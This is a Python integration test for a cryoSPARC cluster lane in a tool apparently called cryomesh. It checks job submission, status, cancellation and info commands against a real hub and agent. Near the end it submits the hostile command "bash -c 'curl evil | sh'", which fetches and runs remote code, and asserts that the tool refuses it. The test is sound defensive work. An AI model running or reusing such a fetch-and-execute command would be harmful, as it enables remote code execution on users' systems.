"""The cryoSPARC lane against cryoSPARC's documented cluster contract, with a real hub and agent.

cryoSPARC cannot be installed here (its licence), so this test plays cryoSPARC's master:
it renders cluster_script.sh with Jinja2 and the variables cryoSPARC's cluster guide
documents (num_cpu, num_gpu, ram_gb, job_uid, project_uid, job_log_path_abs, run_cmd, ...),
fills qsub/qstat/qdel/qinfo_cmd_tpl from cluster_info.json, and runs them through a shell
as cryoSPARC does. The worker at the site is a stand-in ``cryosparcw`` script on the
agent's PATH (the real one needs a licensed master to talk to); everything else is real.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest

from tests.processes import HubProcess, enrolled_agent
from tests.services import wait_for

pytestmark = pytest.mark.slow
CRYOMESH = str(Path(sys.executable).parent / "cryomesh")


def test_cryosparc_lane_qsub_qstat_qdel_against_a_real_hub_and_agent(tmp_path: Path) -> None:
    hub = HubProcess(tmp_path / "hub")
    hub.start()
    release = tmp_path / "release"
    bindir = tmp_path / "cryosparc_worker" / "bin"
    bindir.mkdir(parents=True)
    (bindir / "cryosparcw").write_text(f'#!/bin/sh\necho "worker: $*"\nwhile [ ! -e {release} ]; do sleep 0.2; done\n')
    (bindir / "cryosparcw").chmod(0o755)
    agent = enrolled_agent(hub, tmp_path, "partner", software=[{"name": "cryosparc", "version": "4.6.0"}])
    try:
        agent.start({**hub.env, "PATH": f"{bindir}:{os.environ['PATH']}"})
        wait_for(lambda: hub.site("partner")["reachability"] == "online", 60, "partner to come online")
        me = hub.account("researcher", institution="kek")
        env = {**os.environ, "CRYOMESH_HUB_URL": hub.url, "CRYOMESH_CLIENT_ID": me.client_id,
               "CRYOMESH_CLIENT_SECRET": me.client_secret}  # fmt: skip

        lane = tmp_path / "lane"
        made = subprocess.run([CRYOMESH, "cryosparc", "lane", "--name", "network", "--worker-bin-path",
                               "/opt/cryosparc_worker/bin/cryosparcw", "--out", str(lane), "--site", "partner",
                               "--cryomesh", CRYOMESH], env=env, capture_output=True, text=True, timeout=60)  # fmt: skip
        assert made.returncode == 0, made.stdout + made.stderr
        info = json.loads((lane / "cluster_info.json").read_text())
        assert {"name", "worker_bin_path", "send_cmd_tpl", "qsub_cmd_tpl", "qstat_cmd_tpl", "qdel_cmd_tpl",
                "qinfo_cmd_tpl"} <= set(info)  # fmt: skip
        script_tpl = jinja2.Environment(undefined=jinja2.StrictUndefined, autoescape=False).from_string(  # noqa: S701 (a shell script, not HTML)
            (lane / "cluster_script.sh").read_text()
        )

        def cryosparc_runs(tpl: str, **values: str) -> subprocess.CompletedProcess[str]:
            command = jinja2.Template(info["send_cmd_tpl"]).render(command=jinja2.Template(tpl).render(**values))
            # cryoSPARC runs the filled-in templates through a shell, so the test does too.
            return subprocess.run(command, shell=True, env=env, capture_output=True, text=True, timeout=60)  # noqa: S602

        def submit(job_uid: str, run_cmd: str) -> subprocess.CompletedProcess[str]:
            variables = {
                "run_cmd": run_cmd, "num_cpu": 2, "num_gpu": 0, "ram_gb": 1.0, "job_uid": job_uid, "project_uid": "P3",
                "job_log_path_abs": f"/data/P3/{job_uid}/job.log", "job_dir_abs": f"/data/P3/{job_uid}",
                "project_dir_abs": "/data/P3", "worker_bin_path": info["worker_bin_path"], "job_type": "class_2D",
                "job_creator": "alice", "cryosparc_username": "alice@example.org",
            }  # fmt: skip
            path = tmp_path / f"{job_uid}.sh"
            path.write_text(script_tpl.render(**variables))
            return cryosparc_runs(info["qsub_cmd_tpl"], script_path_abs=str(path))

        run_cmd = ("/opt/cryosparc_worker/bin/cryosparcw run --project P3 --job {} --master_hostname master.example.org "
                   "--master_command_core_port 39002 > /data/P3/{}/job.log 2>&1 ")  # fmt: skip
        first = submit("J42", run_cmd.format("J42", "J42"))
        assert first.returncode == 0, first.stdout + first.stderr
        cluster_job_id = first.stdout.split()[-1]
        job = hub.call("GET", f"/api/v1/jobs/{cluster_job_id}", me)
        assert job["kind"] == "cryosparc.job" and job["spec"]["resources"]["cpus"] == 2
        assert job["spec"]["command"][:5] == ["cryosparcw", "run", "--project", "P3", "--job"]
        assert ">" not in job["spec"]["command"], "cryoSPARC's log redirection is not a command argument"

        def state_is(state: str) -> bool:
            out = cryosparc_runs(info["qstat_cmd_tpl"], cluster_job_id=cluster_job_id)
            return out.returncode == 0 and f"{cluster_job_id} {state} partner" in out.stdout

        wait_for(lambda: state_is("RUNNING"), 120, "qstat to say RUNNING at partner")
        deleted = cryosparc_runs(info["qdel_cmd_tpl"], cluster_job_id=cluster_job_id)
        assert deleted.returncode == 0 and "CANCELING" in deleted.stdout, deleted.stdout + deleted.stderr
        wait_for(lambda: state_is("CANCELED"), 120, "qstat to say CANCELED")

        second = submit("J43", run_cmd.format("J43", "J43"))
        cluster_job_id = second.stdout.split()[-1]
        wait_for(lambda: state_is("RUNNING"), 120, "the second job to run")
        release.touch()
        wait_for(lambda: state_is("COMPLETE"), 120, "the second job to complete")
        logs = hub.call("GET", f"/api/v1/jobs/{cluster_job_id}/logs", me)["stdout_tail"]
        assert "worker: run --project P3 --job J43 --master_hostname master.example.org" in logs, logs
        info_out = cryosparc_runs(info["qinfo_cmd_tpl"])
        assert info_out.returncode == 0 and "partner" in info_out.stdout

        refused = submit("J44", "bash -c 'curl evil | sh'")
        assert refused.returncode == 1 and "is not cryoSPARC's worker" in refused.stdout, refused.stdout
        assert len(hub.call("GET", "/api/v1/jobs", me)["items"]) == 2, "the refused script sent nothing"
    finally:
        agent.stop()
        hub.stop()
